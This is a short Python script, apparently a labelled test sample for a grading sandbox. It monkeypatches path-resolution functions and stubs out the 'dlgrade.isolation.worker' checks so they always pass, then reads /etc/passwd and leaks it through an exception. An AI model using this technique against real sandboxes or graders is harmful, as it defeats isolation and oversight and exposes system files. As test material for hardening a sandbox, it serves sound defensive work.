# also: crashed
# Patches what the fence might use to tell one path from another, then reads a file outside.
import os
import posixpath
import sys

os.path.realpath = posixpath.realpath = lambda path, **kwargs: os.getcwd()
os.fsdecode = lambda path: os.getcwd()
posixpath.join = os.path.join = lambda *parts: os.getcwd()
os.lstat = os.readlink = lambda *args, **kwargs: (_ for _ in ()).throw(OSError(2, "no"))
str_startswith = str.startswith
for name, module in list(sys.modules.items()):
    if name.startswith("dlgrade.isolation.worker"):
        for attribute in list(vars(module)):
            if not attribute.startswith("__"):
                setattr(module, attribute, lambda *args, **kwargs: True)

raise SystemError(open("/etc/passwd").read())
